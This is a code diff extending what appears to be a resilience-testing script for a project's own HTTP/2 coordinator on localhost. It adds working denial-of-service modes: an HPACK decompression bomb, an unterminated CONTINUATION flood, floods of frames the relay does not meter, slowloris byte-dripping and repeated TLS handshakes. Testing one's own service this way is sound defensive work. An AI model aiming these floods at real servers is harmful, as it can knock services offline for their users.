@@ -12,6 +12,17 @@ a few connections, reconnecting whenever the coordinator cuts one:
   (``--read``: reading them, so the server never stops reading for want of room to write)
 - ``halfopen``: ``--hold`` connections that each send HTTP/2's preface and SETTINGS, then
   stop sending (``--half-close``: and close their sending side) and never read
+- ``window``, ``unknown``, ``empty``: frames the relay's meter does not count, over and over:
+  WINDOW_UPDATE (increment 1), frames of an unknown type (which HTTP/2 says to ignore), and
+  empty DATA frames on an open call
+- ``continuation``: one call's HEADERS without END_HEADERS, then CONTINUATION frames of
+  HPACK literals, never ending the header block
+- ``hpack``: calls whose header block adds one 4 KiB header to HPACK's dynamic table and then
+  refers to it thousands of times (an HPACK bomb: 16 KiB on the wire, 64 MiB decoded)
+- ``slowloris``: ``--hold`` connections that each send their first bytes (HTTP/2's preface,
+  or with ``--certs`` a TLS ClientHello) one byte every ``--interval`` seconds
+- ``handshake``: with ``--certs``, full TLS handshakes (with the certificate), closed at
+  once, over and over: what they cost the coordinator's CPU
 
 The frames are written with a few lines of code (a 9-byte header each; the call's headers
 as literal HPACK fields), so no HTTP/2 library is needed. Prints its counts as JSON when it
@@ -35,6 +46,7 @@ from pathlib import Path
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
+CONTINUATION, UNKNOWN = 9, 0xFA
 END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
 METHOD = b"/shoal.deploy.v1.Coordinator/Session"
 
@@ -71,7 +83,8 @@ class Attack:
         self.deadline = time.monotonic() + args.seconds
         self.lock = threading.Lock()
         self.counts = {"connections": 0, "cut": 0, "failed": 0, "headers": 0, "resets": 0,
-                       "control": 0, "ended_by_server": 0, "stalled": 0}  # fmt: skip
+                       "control": 0, "ended_by_server": 0, "stalled": 0, "frames": 0,
+                       "bytes": 0, "handshakes": 0}  # fmt: skip
         self.context: ssl.SSLContext | None = None
         if args.certs:
             certs = Path(args.certs)
@@ -87,7 +100,7 @@ class Attack:
         with self.lock:
             self.counts[key] += n
 
-    def connect(self) -> socket.socket | None:
+    def connect(self, preface: bool = True) -> socket.socket | None:
         try:
             with self.lock:
                 source = f"127.0.0.{2 + self.counts['connections'] % self.args.sources}"
@@ -96,15 +109,19 @@ class Attack:
                 ("127.0.0.1", self.args.port), timeout=5, source_address=address
             )
             sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+            if not preface:
+                self.add("connections")
+                return sock
             if self.context is not None:
                 sock = self.context.wrap_socket(sock, server_hostname="localhost")
             # Our SETTINGS (a large window, so the server may send) and a large connection
             # window; then the server's own SETTINGS are acknowledged by the reader.
             settings = struct.pack(">HI", 4, 1 << 30)
+            window = 1 if self.args.mode == "window" else (1 << 31) - 1 - 65535
             sock.sendall(
                 PREFACE
                 + frames(SETTINGS, 0, 0, settings)
-                + frames(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))
+                + frames(WINDOW_UPDATE, 0, 0, struct.pack(">I", window))
             )
             sock.settimeout(1.0)  # so a stalled send or read still sees the deadline
         except OSError:
@@ -154,6 +171,9 @@ class Attack:
                 continue
             inflight = threading.Semaphore(self.args.inflight) if mode == "streams" else None
             reader = None
+            if mode in _BLIND:
+                self.blind(sock)
+                continue
             if mode != "control" or self.args.read:
                 reader = threading.Thread(target=self.read, args=(sock, inflight), daemon=True)
                 reader.start()
@@ -201,6 +221,87 @@ class Attack:
                 if reader is not None:
                     reader.join(timeout=5)
 
+    def blind(self, sock: socket.socket) -> None:
+        """Frames the meter does not count (or one endless header block), as fast as the
+        connection takes them; a reader drains the answers."""
+        mode = self.args.mode
+        reader = threading.Thread(target=self.read, args=(sock, None), daemon=True)
+        reader.start()
+        first = b""
+        if mode in ("empty", "continuation"):
+            flags = 0 if mode == "continuation" else END_HEADERS
+            first = frames(HEADERS, flags, 1, self.block)
+        one = {
+            "window": frames(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
+            "unknown": frames(UNKNOWN, 0, 0, b""),
+            "empty": frames(DATA, 0, 1, b""),
+            "continuation": frames(CONTINUATION, 0, 1, _literal(b"x-pad", b"p" * 100) * 100),
+            "hpack": b"-",  # each batch is a new call's header block (below)
+        }[mode]
+        batch = one * max(1, (1 << 16) // len(one))
+        stream = 1
+        try:
+            sock.sendall(first)
+            while time.monotonic() < self.deadline and reader.is_alive():
+                if mode == "hpack":
+                    batch = frames(HEADERS, END_HEADERS, stream, _hpack_bomb(self.block))
+                    stream += 2
+                sock.sendall(batch)
+                self.add("frames", 1 if mode == "hpack" else len(batch) // len(one))
+                self.add("bytes", len(batch))
+            if not reader.is_alive():
+                self.add("cut")
+        except TimeoutError:
+            self.add("stalled")
+        except OSError:
+            if time.monotonic() < self.deadline:
+                self.add("cut")
+        finally:
+            with contextlib.suppress(OSError):
+                sock.shutdown(socket.SHUT_RDWR)
+            sock.close()
+            reader.join(timeout=5)
+
+    def slowloris(self) -> None:
+        """``--hold`` connections, each sending its first bytes one at a time."""
+        first = PREFACE + frames(SETTINGS, 0, 0, b"")
+        if self.context is not None:
+            first = _client_hello(self.context)
+        held: dict[socket.socket, int] = {}
+        while time.monotonic() < self.deadline:
+            for sock in [s for s in held if not _alive(s)]:
+                del held[sock]
+                sock.close()
+                self.add("cut")
+            while len(held) < self.args.hold and time.monotonic() < self.deadline:
+                sock = self.connect(preface=False)
+                if sock is None:
+                    break
+                held[sock] = 0
+            for sock, at in list(held.items()):
+                if at < len(first):
+                    with contextlib.suppress(OSError):
+                        sock.send(first[at : at + 1])
+                        self.add("bytes")
+                    held[sock] = at + 1
+            time.sleep(self.args.interval)
+        for sock in held:
+            sock.close()
+
+    def handshakes(self, worker: int) -> None:
+        """Full TLS handshakes, each closed at once."""
+        assert self.context is not None, "handshake needs --certs"
+        while time.monotonic() < self.deadline:
+            sock = self.connect(preface=False)
+            if sock is None:
+                continue
+            try:
+                with self.context.wrap_socket(sock, server_hostname="localhost"):
+                    self.add("handshakes")
+            except OSError:
+                self.add("cut")
+                sock.close()
+
     def half_open(self) -> None:
         held: list[socket.socket] = []
         try:
@@ -222,9 +323,12 @@ class Attack:
     def run(self) -> dict[str, int]:
         if self.args.mode == "halfopen":
             self.half_open()
+        elif self.args.mode == "slowloris":
+            self.slowloris()
         else:
+            target = self.handshakes if self.args.mode == "handshake" else self.connection
             workers = [
-                threading.Thread(target=self.connection, args=(i,), daemon=True)
+                threading.Thread(target=target, args=(i,), daemon=True)
                 for i in range(self.args.connections)
             ]
             for w in workers:
@@ -232,6 +336,29 @@ class Attack:
             for w in workers:
                 w.join(timeout=self.args.seconds + 15)
         return self.counts
+
+
+_BLIND = ("window", "unknown", "empty", "continuation", "hpack")
+
+
+def _hpack_bomb(block: bytes) -> bytes:
+    """A call's header block that inserts a 4 KiB header into HPACK's dynamic table (literal
+    with incremental indexing, new name) and then refers to it (dynamic index 62) 12,000
+    times: under 16 KiB on the wire, about 48 MiB of headers once decoded."""
+    value = b"v" * 4000
+    # A 4,000-byte value needs HPACK's multi-byte integer (7-bit prefix): 127, then 3873.
+    size = bytes([0x7F]) + bytes([(3873 & 0x7F) | 0x80, 3873 >> 7])
+    insert = b"\x40" + bytes([6]) + b"x-bomb" + size + value
+    return block + insert + b"\xbe" * 12_000
+
+
+def _client_hello(context: ssl.SSLContext) -> bytes:
+    """The first flight of a TLS handshake with ``context`` (its ClientHello records)."""
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
+    with contextlib.suppress(ssl.SSLWantReadError):
+        tls.do_handshake()
+    return outgoing.read()
 
 
 def _alive(sock: socket.socket) -> bool:
@@ -253,8 +380,10 @@ def _alive(sock: socket.socket) -> bool:
 def main() -> None:
     parser = argparse.ArgumentParser()
     parser.add_argument("--port", type=int, required=True)
-    parser.add_argument("--mode", choices=("streams", "reset", "control", "halfopen"),
+    parser.add_argument("--mode", choices=("streams", "reset", "control", "halfopen", *_BLIND,
+                                           "slowloris", "handshake"),
                         required=True)  # fmt: skip
+    parser.add_argument("--interval", type=float, default=1.0, help="slowloris: per byte")
     parser.add_argument("--seconds", type=float, default=8.0)
     parser.add_argument("--connections", type=int, default=1)
     parser.add_argument("--inflight", type=int, default=100)
